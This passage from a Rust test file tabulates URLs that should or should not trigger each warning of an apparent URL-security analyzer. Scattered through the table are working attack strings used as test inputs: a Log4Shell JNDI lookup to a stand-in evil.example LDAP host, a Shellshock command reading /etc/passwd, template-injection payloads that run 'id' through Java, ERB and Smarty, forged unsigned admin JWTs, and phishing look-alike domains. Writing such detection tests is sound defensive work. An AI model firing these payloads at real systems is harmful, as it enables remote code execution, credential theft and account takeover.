//! The warning rules, one row per case: a URL that must get the code, and
//! a near miss (a URL as close to it as possible) that must not, for every
//! code in the catalogue. The near misses pin down where each rule stops:
//! `%2f` in a path segment is a separator in disguise, in a query value it
//! is just data; `%252e` is two layers deep, `%25zz` only one.
//!
//! Rows name a code by its stable kebab-case string and look it up in
//! `WarningCode::ALL`, so the table outlives renamed enum variants; a code
//! added to the catalogue without a firing case and a near miss fails
//! `every_code_has_a_firing_case_and_a_near_miss`.
//!
//! A firing row also names the bytes the warning must point at (the
//! smallest span covering every occurrence), so a rule that fires on the
//! wrong bytes fails too.

use urlscope_core::warnings::WarningCode;
use urlscope_core::{analyze, Options};

/// What the analysis must say about a row's URL.
#[derive(Debug, Clone, Copy)]
enum Verdict {
    /// The code is given, and its span covers exactly `at` (the input's
    /// bytes from the first to the last occurrence).
    Fires { at: &'static str },
    /// The code is not given.
    Misses,
}

use Verdict::{Fires, Misses};

/// One case: the code's kebab-case name, the URL, the verdict, and why.
type Row = (&'static str, &'static str, Verdict, &'static str);

#[rustfmt::skip]
const RULES: &[Row] = &[
    // Escapes and layers.
    ("double-encoding", "http://x/%252e", Fires { at: "%252e" }, "%252e decodes to %2e, which decodes again to a dot"),
    ("double-encoding", "http://x/%2541", Fires { at: "%2541" }, "%2541 decodes to %41: a second decoder reads A"),
    ("double-encoding", "http://x/%25", Misses, "%25 decodes to a lone %, which starts no escape"),
    ("double-encoding", "http://x/%25zz", Misses, "%25zz decodes to %zz, which no decoder reads as an escape"),
    ("double-encoding", "https://a.example/?next=https%3A%2F%2Fb.example%2Fa%2520b", Misses, "a URL encoded whole in a value encodes its own escapes once more: they are the carried URL's"),
    ("double-encoding", "https://a.example/?ReturnUrl=%2f_layouts%2f15%2fAuthenticate.aspx%3fSource%3d%252F", Misses, "a same-site path carried whole as a return address (SharePoint's '/_layouts/...'), whose own query is encoded once more"),
    ("malformed-escape", "http://x/100%", Fires { at: "%" }, "a % at the end starts no escape"),
    ("malformed-escape", "http://x/%zz", Fires { at: "%zz" }, "zz is not hex"),
    ("malformed-escape", "http://x/%u002", Fires { at: "%u0" }, "%u with three digits is neither a %XX nor a %uXXXX escape"),
    ("malformed-escape", "http://x/100%25", Misses, "the % is itself escaped"),
    ("nonstandard-escape", "http://x/%u002e", Fires { at: "%u002e" }, "%uXXXX is IIS's escape for U+002E"),
    ("nonstandard-escape", "http://x/%U002e", Fires { at: "%U002e" }, "IIS reads the U in either case"),
    ("nonstandard-escape", "http://x/u002e", Misses, "without the % it is text"),
    ("lowercase-hex", "http://x/%c3%a9", Fires { at: "%c3%a9" }, "RFC 3986 §2.1 asks for uppercase hex digits"),
    ("lowercase-hex", "http://x/%2e%2E", Fires { at: "%2e" }, "only the escape with a lowercase digit is pointed at"),
    ("lowercase-hex", "http://x/%C3%A9", Misses, "the same escapes in uppercase"),
    ("lowercase-hex", "http://x/%20", Misses, "an escape without letters has no case"),
    ("encoded-unreserved", "http://x/%41", Fires { at: "%41" }, "A needs no escape"),
    ("encoded-unreserved", "http://x/%7E", Fires { at: "%7E" }, "~ is unreserved too"),
    ("encoded-unreserved", "http://x/%40", Misses, "@ is reserved, so escaping it is right"),
    ("encoded-unreserved", "http://x/%20", Misses, "a space must be escaped"),
    // What the decoded bytes are.
    ("overlong-utf8", "http://x/%c0%af", Fires { at: "%c0%af" }, "C0 AF spells / in two bytes"),
    ("overlong-utf8", "http://x/%C0%80", Fires { at: "%C0%80" }, "C0 80 spells NUL in two bytes (modified UTF-8)"),
    ("overlong-utf8", "http://x/%e0%80%af", Fires { at: "%e0%80%af" }, "E0 80 AF spells / in three bytes"),
    ("overlong-utf8", "http://x/%c2%af", Misses, "C2 AF is the shortest form of U+00AF"),
    ("overlong-utf8", "http://x/%C3%A9", Misses, "well-formed UTF-8"),
    ("invalid-utf8", "http://x/%ff", Fires { at: "%ff" }, "FF never appears in UTF-8"),
    ("invalid-utf8", "http://x/%C3%28", Fires { at: "%C3" }, "C3 needs a continuation byte, not '('"),
    ("invalid-utf8", "http://x/%c3", Fires { at: "%c3" }, "a lead byte at the end of the segment"),
    ("invalid-utf8", "http://x/%E0%80", Fires { at: "%E0%80" }, "E0 80 would start an overlong form: the lead byte and the byte it is ill-formed with"),
    ("invalid-utf8", "http://x/%ED%A0%80", Fires { at: "%ED%A0%80" }, "ED A0 would start a surrogate; the 80 after them is a place of its own"),
    ("invalid-utf8", "http://x/%C3%A9", Misses, "C3 A9 is é"),
    ("invalid-utf8", "http://x/%c0%af", Misses, "an overlong form is reported as overlong-utf8, not twice"),
    ("null-byte", "http://x/a%00b", Fires { at: "%00" }, "NUL ends a C string"),
    ("null-byte", "http://x/a%2500b", Fires { at: "%2500" }, "NUL after two layers"),
    ("null-byte", "http://x/a\0b", Fires { at: "\0" }, "a raw NUL"),
    ("null-byte", "http://x/a%2000b", Misses, "a space followed by the text 00"),
    ("null-byte", "http://x/a%30b", Misses, "%30 is the digit 0, not NUL"),
    ("crlf", "http://x/?a=%0d%0aSet", Fires { at: "%0d%0a" }, "CR LF ends a header line"),
    ("crlf", "http://x/?a=%0aSet", Fires { at: "%0a" }, "a lone LF ends a line for most readers"),
    ("crlf", "http://x/?a=\r\nSet", Fires { at: "\r\n" }, "raw CR LF"),
    ("crlf", "http://x/?a=%0bSet", Misses, "VT is a control character, not a line end"),
    ("crlf", "https://urldefense.proofpoint.com/v1/url?u=http://www.example.org/&k=oIvRg1%2BdGAgOoM1BIlLLqw%3D%3D%0A&s=d358", Misses, "Proofpoint v1's encoder ends its own base64 values with a newline"),
    ("crlf", "https://urldefense.proofpoint.com/v1/url?u=http://x.example/%0Aa&k=abc", Fires { at: "%0A" }, "in the URL it carries a newline is the destination's"),
    ("crlf", "http://x/?a=%5cr%5cn", Misses, "the text \\r\\n, escaped"),
    ("control-char", "http://x/%1b", Fires { at: "%1b" }, "ESC starts terminal sequences"),
    ("control-char", "http://x/%7f", Fires { at: "%7f" }, "DEL is a control"),
    ("control-char", "http://x/%C2%9B", Fires { at: "%C2%9B" }, "U+009B is the C1 CSI"),
    ("control-char", "http://x/a\x1bb", Fires { at: "\x1b" }, "a raw ESC"),
    ("control-char", "http://x/%2b", Misses, "%2b is '+'"),
    ("control-char", "http://x/%C2%A0", Misses, "U+00A0 is a space, not a C1 control"),
    ("bidi-control", "http://x/a%E2%80%AEb", Fires { at: "%E2%80%AE" }, "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("bidi-control", "http://x/a%E2%80%8Fb", Fires { at: "%E2%80%8F" }, "U+200F RIGHT-TO-LEFT MARK"),
    ("bidi-control", "http://x/a\u{202E}b", Fires { at: "\u{202E}" }, "a raw override"),
    ("bidi-control", "http://x/a%E2%80%AFb", Misses, "U+202F, next to the overrides, is a narrow no-break space"),
    ("bidi-control", "http://x/a%E2%80%90b", Misses, "U+2010 HYPHEN"),
    ("invisible-char", "http://x/a%E2%80%8Bb", Fires { at: "%E2%80%8B" }, "U+200B ZERO WIDTH SPACE"),
    ("invisible-char", "http://x/a%E2%81%A0b", Fires { at: "%E2%81%A0" }, "U+2060 WORD JOINER"),
    ("invisible-char", "http://ex\u{200B}ample.com/", Fires { at: "\u{200B}" }, "a zero-width space in the host"),
    ("invisible-char", "http://x/a%E2%80%8Ab", Misses, "U+200A HAIR SPACE, next to ZWSP, draws a space"),
    ("invisible-char", "http://x/a%E2%80%93b", Misses, "U+2013 EN DASH"),
    // Characters written raw.
    ("illegal-char", "http://x/a b", Fires { at: " " }, "a space must be escaped"),
    ("illegal-char", "http://x/a\"b", Fires { at: "\"" }, "so must a double quote"),
    ("illegal-char", "http://x/a<b", Fires { at: "<" }, "and an angle bracket"),
    ("illegal-char", "http://x/a%22b", Misses, "the double quote escaped"),
    ("illegal-char", "http://x/a%20b", Misses, "the space escaped"),
    ("backslash", "http://x/a\\b", Fires { at: "\\" }, "a separator to WHATWG, data to RFC 3986"),
    ("backslash", "http://x/?a\\b", Fires { at: "\\" }, "in the query too"),
    ("backslash", "http://x/a%5Cb", Misses, "an escaped backslash is data to both (it is an encoded-slash)"),
    ("backslash", "http://x/a/b", Misses, "a slash"),
    ("plus-in-path", "http://x/a+b", Fires { at: "+" }, "form decoding would make it a space"),
    ("plus-in-path", "http://x/a%20+b", Fires { at: "+" }, "only the plus is pointed at"),
    ("plus-in-path", "http://x/?q=a+b", Misses, "in a query a plus is a space by design"),
    ("plus-in-path", "http://x/a%2Bb", Misses, "an escaped plus is a plus to everyone"),
    // The path and what it asks for.
    ("path-traversal", "http://x/a/../b", Fires { at: ".." }, "a dot-dot segment"),
    ("path-traversal", "http://x/%2e%2e/b", Fires { at: "%2e%2e" }, "the same, escaped"),
    ("path-traversal", "http://x/?%2e%2e=1", Fires { at: "%2e%2e" }, "a dot-dot query key"),
    ("path-traversal", "http://x/?a=../x", Fires { at: "../" }, "a parameter value that climbs"),
    ("path-traversal", "http://x/%c0%ae", Fires { at: "%c0%ae" }, "a dot spelled overlong"),
    ("path-traversal", "http://x/a/..b", Misses, "..b is a name, not a dot segment"),
    ("path-traversal", "http://x/a/b", Misses, "no dots at all"),
    ("encoded-slash", "http://x/a%2fb", Fires { at: "%2f" }, "a slash hidden inside a segment"),
    ("encoded-slash", "http://x/a%5Cb", Fires { at: "%5C" }, "a backslash hidden inside a segment"),
    ("encoded-slash", "http://x/a%2fb%2fc", Fires { at: "%2fb%2f" }, "every occurrence, in one span"),
    ("encoded-slash", "https://firebasestorage.googleapis.com/v0/b/app.appspot.com/o/images%2Fphoto.jpg?alt=media", Misses, "Firebase Storage names an object in one segment, its slashes encoded by design"),
    ("encoded-slash", "https://registry.npmjs.org/@types%2fnode", Misses, "a scoped package in npm's registry"),
    ("encoded-slash", "http://x/?a=a%2fb", Misses, "in a query value a slash is data"),
    ("encoded-slash", "http://x/a/b", Misses, "a real separator"),
    ("encoded-slash", "https://a1.r.us-east-1.awstrack.me/L0/https:%2F%2Fwww.example.com%2Fnews/1/0100018e/x=1", Misses, "Amazon SES writes the URL it carries so; it reads it back as its destination"),
    ("encoded-slash", "https://secure-web.cisco.com/1abc/https%3A%2F%2Fwww.example.com%2Fpage", Misses, "so does Cisco Secure Email"),
    ("encoded-slash", "https://a1.r.us-east-1.awstrack.me/L0/https:%2F%2Fwww.example.com%2Fnews/1/a%2Fb", Fires { at: "%2F" }, "after the carried URL the wrapper's path is a path"),
    ("sensitive-file", "http://x/etc/passwd", Fires { at: "/etc/passwd" }, "the first file an LFI probe asks for"),
    ("sensitive-file", "http://x/?file=passwd", Fires { at: "passwd" }, "named in a parameter"),
    ("sensitive-file", "http://x/?file=C:%5Cwindows%5Cwin.ini", Fires { at: "C:%5Cwindows%5Cwin.ini" }, "a Windows drive path in a parameter"),
    ("sensitive-file", "https://ims-na1.adobelogin.com/ims/authorize/v1?client_id=x&dctx_id=v%3A2%2Cs%2Cf%2Cbg%2C1a2b3c4d", Misses, "a letter, a colon and a list of values: no drive path"),
    ("sensitive-file", "http://x/my/etc/passwd", Fires { at: "/my/etc/passwd" }, "the pair anywhere in the path (the span is the whole path)"),
    ("sensitive-file", "http://x/etcpasswd", Misses, "one name, not a directory and a file"),
    ("sensitive-file", "http://x/passwdx", Misses, "a longer name"),
    ("sensitive-file", "http://x/my/etc/pa", Misses, "etc below the root, and no sensitive name in it"),
    // The authority.
    ("userinfo", "http://u@x/", Fires { at: "u@" }, "a user name"),
    ("userinfo", "http://u:p@x/", Fires { at: "u:p@" }, "a user name and password"),
    ("userinfo", "https://accounts.example.com@phish.example/", Fires { at: "accounts.example.com@" }, "a host name as user name"),
    ("userinfo", "http://x/@u", Misses, "an @ in the path"),
    ("userinfo", "http://evil.com/@good.com/", Misses, "the @ comes after the authority ends"),
    ("ip-obfuscation", "http://2130706433/", Fires { at: "2130706433" }, "127.0.0.1 as one decimal number"),
    ("ip-obfuscation", "http://0x7f.0.0.1/", Fires { at: "0x7f.0.0.1" }, "a hex part"),
    ("ip-obfuscation", "http://0177.0.0.1/", Fires { at: "0177.0.0.1" }, "an octal part"),
    ("ip-obfuscation", "http://127.1/", Fires { at: "127.1" }, "the short form"),
    ("ip-obfuscation", "http://127.0.0.1/", Misses, "the dotted decimal form"),
    ("ip-obfuscation", "http://1.2.3.4.5/", Misses, "five parts are no IPv4 address"),
    ("invalid-port", "http://x:65536/", Fires { at: "65536" }, "one past the largest port"),
    ("invalid-port", "http://x:8o/", Fires { at: "8o" }, "a letter o for a zero"),
    ("invalid-port", "http://x:-1/", Fires { at: "-1" }, "a sign"),
    ("invalid-port", "http://x:65535/", Misses, "the largest port"),
    ("invalid-port", "http://x:/", Misses, "an empty port is the default"),
    ("invalid-host", "http://a@b@c/", Fires { at: "@" }, "the host holds the second @"),
    ("invalid-host", "http://[::g]/", Fires { at: "[::g]" }, "bracketed but not IPv6"),
    ("invalid-host", "http://x]/", Fires { at: "]" }, "a stray bracket"),
    ("invalid-host", "http://a@b/", Misses, "one @ ends the userinfo"),
    ("invalid-host", "http://[::1]/", Misses, "a real IPv6 literal"),
    ("invalid-host", "http://127.0.0.1;.evil.example/", Fires { at: ";" }, "a parser that ends the host at ';' reads 127.0.0.1"),
    ("invalid-host", "http://1.1.1.1 &@2.2.2.2/", Fires { at: " " }, "a parser that ends the authority at the blank reads 1.1.1.1 (Orange Tsai)"),
    ("invalid-host", "http://evil.example%00.good.example/", Fires { at: "%00" }, "C code stops at the NUL and reads evil.example"),
    ("invalid-host", "http://user;x@a.example/", Misses, "cut at ';', the parser reads 'user', which is no host"),
    ("invalid-host", "http://a.example/x;y,z", Misses, "';' and ',' in the path cut no host"),
    ("invalid-host", "http://[::1];.evil.example/", Fires { at: ";" }, "a parser that ends the host at ';' reads the IPv6 literal, a suffix check the name after it"),
    ("invalid-host", "http://[::1]:80%00.evil.example/", Fires { at: "%00" }, "after a port too, raw or escaped"),
    ("invalid-host", "http://[::1];/", Misses, "nothing after the cut names another host"),
    ("invalid-host", "http://[::1]:8080/", Misses, "a literal and its port, uncut"),
    ("idn", "http://exämple.com/", Fires { at: "exämple.com" }, "a non-ASCII host"),
    ("idn", "http://xn--exmple-cua.com/", Fires { at: "xn--exmple-cua.com" }, "the same host in its ASCII form"),
    ("idn", "http://example.com/", Misses, "an ASCII host"),
    ("idn", "http://127\u{3002}0\u{3002}0\u{3002}1/", Misses, "an IPv4 address written with ideographic full stops is no internationalized name: ip-obfuscation says what it is"),
    ("idn", "http://xn-exmple-cua.com/", Misses, "one hyphen is no ACE prefix"),
    ("idn", "http://аррӏе.com/", Misses, "a homograph is reported as idn-homograph instead"),
    ("idn-homograph", "http://аррӏе.com/", Fires { at: "аррӏе.com" }, "Cyrillic letters that spell apple"),
    ("idn-homograph", "http://xn--80ak6aa92e.com/", Fires { at: "xn--80ak6aa92e.com" }, "the same in punycode"),
    ("idn-homograph", "http://exämple.com/", Misses, "one script, no look-alike"),
    ("idn-homograph", "http://בײַשפּיל.טעסט/", Misses, "ICANN's Yiddish test domain: one script, though UTS #39 restricts some of its characters"),
    ("idn-homograph", "http://ǃexample.com/", Misses, "U+01C3 is restricted, but the name it resembles ('!example') is no host name"),
    // The whole URL.
    ("dangerous-scheme", "javascript:alert(1)", Fires { at: "javascript" }, "runs code"),
    ("dangerous-scheme", "JavaScript:alert(1)", Fires { at: "JavaScript" }, "schemes are case-insensitive"),
    ("dangerous-scheme", "data:text/html,x", Fires { at: "data" }, "renders attacker content"),
    ("dangerous-scheme", "data:text/plain,x", Fires { at: "data" }, "carries its own content, shown as it is: low"),
    ("dangerous-scheme", "javascripts:alert(1)", Misses, "an unknown scheme"),
    ("dangerous-scheme", "java-script:alert(1)", Misses, "not the same scheme"),
    ("parser-differential", "http://evil.com\\@good.com/", Fires { at: "http://evil.com\\@good.com/" }, "RFC 3986 goes to good.com, WHATWG to evil.com"),
    ("parser-differential", "https:alert(1)", Fires { at: "https:alert(1)" }, "WHATWG reads a host where RFC 3986 reads a path"),
    ("parser-differential", "http://1.2.3.4.5/", Fires { at: "http://1.2.3.4.5/" }, "a browser rejects the host an RFC 3986 client connects to"),
    ("parser-differential", "http://1.2.3.4/", Misses, "four parts are an IPv4 address to both"),
    ("parser-differential", "http://evil.com%5C@good.com/", Misses, "an escaped backslash is userinfo to both"),
    ("parser-differential", "http://evil.com/@good.com/", Misses, "both read evil.com"),
    ("parser-differential", "http://[::FFFF:129.144.52.38]:80/", Misses, "both parsers read the same address; WHATWG only writes the IPv4 part in hex"),
    ("defanged-input", "hxxp://evil.example/", Fires { at: "http" }, "hxxp is http written so that it is no link"),
    ("defanged-input", "http://evil[.]example/", Fires { at: "." }, "a bracketed dot in the host"),
    ("defanged-input", "<hxxps://paypa1[.]com/signin>", Fires { at: "https://paypa1." }, "quoted between '<' and '>' as mail quotes a URL: read inside them"),
    ("defanged-input", "hxxps://evil\\.example\\.net/", Fires { at: "https://evil.example." }, "a host's dots escaped as a pattern escapes them, in a defanged URL"),
    ("defanged-input", "https://evil.com\\.good.com/", Misses, "a live URL's backslash ends the host a browser opens: no disguise"),
    ("parser-differential", "https://a[.]b@evil.com\\.paypal.com/", Fires { at: "https://a.b@evil.com\\.paypal.com/" }, "a bracket in the userinfo does not make the host's \\. a dot: a browser opens evil.com"),
    ("parser-differential", "https://evil.example\\.paypal[.]com/", Fires { at: "https://evil.example\\.paypal.com/" }, "a bracket past a live URL's backslash does not make its \\. a dot: a browser opens evil.example"),
    ("defanged-input", "http://[::1]/", Misses, "a real IPv6 literal is no defanged spelling"),
    ("defanged-input", "https://example.com/?q=a[.]b", Misses, "a bracketed dot in the query is data"),
    ("assumed-scheme", "www.paypa1.com/signin", Fires { at: "www.paypa1.com" }, "a www. name with no scheme opens as http://www.paypa1.com/signin in an address bar"),
    ("assumed-scheme", "paypa1.com", Fires { at: "paypa1.com" }, "a bare domain under a public suffix, as IOC lists give it"),
    ("assumed-scheme", "203.0.113.7:8080/x", Fires { at: "203.0.113.7:8080" }, "an IPv4 address and its port"),
    ("assumed-scheme", "evil.zip/x", Fires { at: "evil.zip" }, ".zip names files too, but a path follows it"),
    ("assumed-scheme", "paypa1[.]com/x", Fires { at: "paypa1.com" }, "a host pasted defanged with no scheme is refanged, then read so"),
    ("assumed-scheme", "index.php?x=1", Misses, "php is no public suffix: a file name"),
    ("assumed-scheme", "foo.txt", Misses, "nor is txt"),
    ("assumed-scheme", "readme.md", Misses, ".md is Moldova's, but a name ending in it alone is a Markdown file"),
    ("assumed-scheme", "invoice.zip", Misses, "a .zip name alone is an archive"),
    ("assumed-scheme", "../a/b", Misses, "a relative path"),
    ("assumed-scheme", "v1.2.3/notes", Misses, "a version number, not an address"),
    ("assumed-scheme", "//paypa1.com/x", Misses, "a network-path reference names its host itself"),
    ("lookalike-domain", "https://paypa1.com/", Fires { at: "1" }, "'1' for 'l' in PayPal's name"),
    ("lookalike-domain", "https://www.mydhl.express.dhl/us/en/home.html", Misses, "a name under DHL's own top-level domain, where only DHL registers: not lexpress.fr misspelt"),
    ("lookalike-domain", "https://pay\tpa1.com/", Fires { at: "1" }, "a tab inside the host, which a browser drops: it opens paypa1.com"),
    ("lookalike-domain", "https://pay\tpaI.com/", Fires { at: "I" }, "and a capital i beside it, named as written"),
    ("lookalike-domain", "https://k1arna.com/", Fires { at: "1" }, "'1' for 'l' in Klarna's name, whose own 'rn' is no 'm'"),
    ("lookalike-domain", "https://skill.com/", Misses, "an ordinary word one letter from Skrill's name: that brand is imitated only in look-alike letters"),
    ("lookalike-domain", "https://desjardins.org/", Misses, "Desjardins's name under another suffix: it is a surname too"),
    ("lookalike-domain", "http://metadata.google.internal/computeMetadata/v1/", Misses, "a name inside a private network is registered by no one outside it"),
    ("lookalike-domain", "https://protect-eu.mimecast.com/s/AbCdEf?domain=paypa1.com", Fires { at: "paypa1.com" }, "the domain a Mimecast link names for the destination it holds"),
    ("lookalike-domain", "https://www.google.com/amp/s/paypa1.com/signin", Fires { at: "1" }, "behind Google's AMP viewer, which writes its destination as its path, without a scheme"),
    ("lookalike-domain", "https://www.google.com/amp/s/www.bbc.co.uk/news/amp/article", Misses, "an AMP page of a site that imitates none"),
    ("lookalike-domain", "https://url.us.m.mimecastprotect.com/s/AbCdEf?domain=paypa1.com", Fires { at: "paypa1.com" }, "the same in Mimecast's links since 2024"),
    ("lookalike-domain", "https://x.safelinks.protection.outlook.com/?url=https%3A%2F%2Furldefense.com%2Fv3%2F__https%3A%2F%2Fpaypa1.com%2Fsignin__%3B%21%21A%21b%24&data=1", Fires { at: "1" }, "Safe Links around Proofpoint v3: the last destination is judged, on its own byte (Proofpoint v3 carries it as written)"),
    ("lookalike-domain", "https://rnicrosoft.com/", Fires { at: "rn" }, "'rn' for 'm' in Microsoft's name"),
    ("lookalike-domain", "https://1inked1n.com/", Fires { at: "1inked1" }, "each '1' read its own way: an 'l', then an 'i'"),
    ("lookalike-domain", "https://paypal.cn/signin", Fires { at: "cn" }, "a brand's name under a country's suffix, asking for a sign-in: shown (low), as the brands' own country sites ask"),
    ("lookalike-domain", "https://www.netflix.co.uk/", Fires { at: "co.uk" }, "a brand's name under a country's suffix alone, most often the brand's own registration there: only shown (low)"),
    ("jndi-lookup", "https://v.example/?q=${jndi:ldap://evil.example:1389/a}", Fires { at: "${jndi:ldap://evil.example:1389/a}" }, "Log4Shell: a server that logs the URL looks the name up"),
    ("jndi-lookup", "https://v.example/${${lower:j}ndi:ldap://evil.example/a}", Fires { at: "${${lower:j}ndi:ldap://evil.example/a}" }, "the word spelled by a nested lookup, across path segments"),
    ("jndi-lookup", "https://v.example/?q=${env:HOME}", Misses, "a lookup that names no JNDI resource"),
    ("shellshock", "http://v.example/cgi-bin/status?() { :;}; /bin/cat /etc/passwd", Fires { at: "() { :;}; /bin/cat /etc/passwd" }, "a bash function definition as the raw query: QUERY_STRING, which a bash without the Shellshock fixes of September 2014 runs the rest of"),
    ("shellshock", "http://v.example/cgi-bin/status?q=() { :;}; id", Misses, "after 'q=', the query does not start with the definition, so bash reads none"),
    ("shellshock", "http://v.example/cgi-bin/status?()%20{%20:;};%20id", Misses, "escaped: QUERY_STRING is never decoded, so bash sees '()%20{'"),
    ("unsigned-jwt", "https://v.example/account?token=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiIsImFkbWluIjp0cnVlfQ.", Fires { at: "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiIsImFkbWluIjp0cnVlfQ." }, "an Unsecured JWT (alg none, RFC 7519 6) claiming admin: the forged token of CVE-2015-9235"),
    ("unsigned-jwt", "https://v.example/s/eyJhbGciOiJOT05FIn0.eyJzdWIiOiJhZG1pbiJ9.c2ln", Fires { at: "eyJhbGciOiJOT05FIn0.eyJzdWIiOiJhZG1pbiJ9.c2ln" }, "'NONE' in capitals, as a path segment: the spelling that slipped past blocklists of 'none'"),
    ("unsigned-jwt", "https://v.example/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiIsImFkbWluIjp0cnVlfQ.", Fires { at: "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiIsImFkbWluIjp0cnVlfQ." }, "HS256 named, the signature cut off"),
    ("unsigned-jwt", "https://app.example/callback#state=af0ifjsldkj&id_token=eyJhbGciOiJub25lIn0.eyJpc3MiOiJodHRwczovL2lkcC5leGFtcGxlIiwic3ViIjoiYWRtaW4ifQ.&token_type=Bearer", Fires { at: "eyJhbGciOiJub25lIn0.eyJpc3MiOiJodHRwczovL2lkcC5leGFtcGxlIiwic3ViIjoiYWRtaW4ifQ." }, "an unsigned ID token in the fragment, where OpenID Connect's implicit flow hands a page its tokens: the value marked"),
    ("unsigned-jwt", "https://v.example/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiIsImFkbWluIjp0cnVlfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c", Misses, "a signed token: whether its signature holds is the server's to check"),
    ("template-injection", "https://v.example/search?q={{7*7}}", Fires { at: "{{7*7}}" }, "a Jinja2 or Twig probe: 49 on the page says the value was rendered as a template"),
    ("template-injection", "https://v.example/search?q=%24%7B7*7%7D", Fires { at: "%24%7B7*7%7D" }, "the same probe percent-encoded, in Spring EL's and FreeMarker's syntax: the value marked whole"),
    ("template-injection", "https://v.example/?name=%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E", Fires { at: "%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E" }, "FreeMarker building its Execute class, which runs commands (high): the value marked whole, decoding wrote it"),
    ("template-injection", "https://v.example/?name=$e.getClass().forName(%22java.lang.Runtime%22)", Fires { at: "$e.getClass().forName(%22java.lang.Runtime%22)" }, "a Velocity reference reaching the runtime, with no delimiter around it"),
    ("template-injection", "https://v.example/?q=%24%21%7Be.getClass().forName(%22java.lang.Runtime%22)%7D", Fires { at: "%24%21%7Be.getClass().forName(%22java.lang.Runtime%22)%7D" }, "Velocity's quiet formal reference reaching the runtime, percent-encoded: the value marked whole"),
    ("template-injection", "https://v.example/?q=%5B%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%5D", Fires { at: "%5B%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%5D" }, "FreeMarker's square-bracket syntax building its Execute class"),
    ("template-injection", "https://v.example/?q=<#assign ex=\"x\"?new()>", Misses, "the '#' opens the fragment: the server is sent 'q=<', and only a server reads FreeMarker"),
    ("template-injection", "https://v.example/$Department/page", Misses, "a '$' in a name: a reference that calls nothing"),
    ("template-injection", "https://v.example/?q=${T(java.lang.Runtime).getRuntime().exec('id')}", Fires { at: "${T(java.lang.Runtime).getRuntime().exec('id')}" }, "Spring EL reaching the runtime to run a command (high)"),
    ("template-injection", "https://v.example/#!/x?{{constructor.constructor('alert(1)')()}}", Fires { at: "{{constructor.constructor('alert(1)')()}}" }, "an AngularJS sandbox escape in the fragment"),
    ("template-injection", "https://mail.example/track?email={{contact.email}}", Misses, "a placeholder a mailer left unrendered computes nothing"),
    ("template-injection", "https://mail.example/track?n={{contact.first_name|default('there')}}", Misses, "a placeholder piped through a filter that only formats it, its argument a literal: still a mailer's placeholder left unrendered"),
    ("template-injection", "https://mail.example/t?g=%7B%25%20if%20contact.first_name%20%25%7DHi", Misses, "a mailer's Liquid test of a placeholder, left unrendered: it tests a name and computes nothing"),
    ("template-injection", "https://v.example/?c=%24(function()%7B%24(%27%23menu%27).show()%7D)", Misses, "jQuery: '{$(' opens no Smarty variable, whose name starts with a letter"),
    ("template-injection", "https://v.example/?q=%3C%25%3D%20%60id%60%20%25%3E", Fires { at: "%3C%25%3D%20%60id%60%20%25%3E" }, "ERB running 'id' between backticks (high)"),
    ("template-injection", "https://v.example/?q=[=7*7]&x=1", Fires { at: "[=7*7]" }, "FreeMarker's square-bracket interpolation, as written: the fast path refuses it too"),
    ("template-injection", "https://v.example/?q=%7B%25-%20for%20c%20in%20%27%27.__class__.__mro__%5B1%5D.__subclasses__()%20-%25%7D", Fires { at: "%7B%25-%20for%20c%20in%20%27%27.__class__.__mro__%5B1%5D.__subclasses__()%20-%25%7D" }, "Jinja's whitespace control '{%-' around a loop reaching the runtime (high)"),
    ("template-injection", "https://v.example/?q=%23{`id`}", Fires { at: "%23{`id`}" }, "Ruby's interpolation running a shell command between backticks (high)"),
    ("template-injection", "https://v.example/?q={if+system(1)}", Fires { at: "{if+system(1)}" }, "a Smarty condition calling system(), its space written '+' as a query's form encoding has it"),
    ("template-injection", "https://api.example/graphql?query={system(id:1){name}}", Misses, "a GraphQL query's selection, whose inner brace no Smarty tag holds"),
    ("template-injection", "https://v.example/?q={system('id')}", Fires { at: "{system('id')}" }, "a Smarty tag calling PHP's system(), which no two bytes open (high)"),
    ("template-injection", "https://v.example/?q=%7Bphp%7Decho%20id;%7B/php%7D", Fires { at: "%7Bphp%7Decho%20id;%7B/php%7D" }, "Smarty 2's {php} tag, percent-encoded: the value marked"),
    ("template-injection", "https://v.example/api/{id}?fields={name}", Misses, "a single brace around a name is a placeholder, not a Smarty call"),
    ("template-injection", "https://v.example/?q=${env:HOME}", Misses, "a Log4j lookup, no template"),
    ("template-injection", "https://v.example/#{7*7}", Misses, "the '#' that opens the fragment starts no '#{': the fragment, '{7*7}', is no expression"),
    ("invalid-host", "https://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example/", Fires { at: "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }, "a label of 64 bytes: DNS carries 63 (low)"),
    ("invalid-host", "https://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example/", Misses, "a label of 63 bytes, the most DNS carries"),
    ("lookalike-domain", "https://paypa1-login.com/", Fires { at: "1-login" }, "PayPal's name with '1' for 'l', glued to a word in the domain's name"),
    ("lookalike-domain", "https://secure.rnicrosoft365-verify.shop/", Fires { at: "secure.rn" }, "Microsoft's name with 'rn' for 'm', glued to digits and a word in a label ahead"),
    ("lookalike-domain", "https://finance-news.com/", Misses, "a common word one edit from a brand's name (Binance) is no misspelling of it"),
    ("lookalike-domain", "https://paypal-login.com/", Misses, "the brand's name as written is brand-in-host's"),
    ("lookalike-domain", "https://accounts.g00gle.com/signin", Fires { at: "00" }, "the same look-alike twice: '00' for 'oo' in Google's name"),
    ("lookalike-domain", "https://faceb00k.com/login", Fires { at: "00" }, "'00' for 'oo' in Facebook's name"),
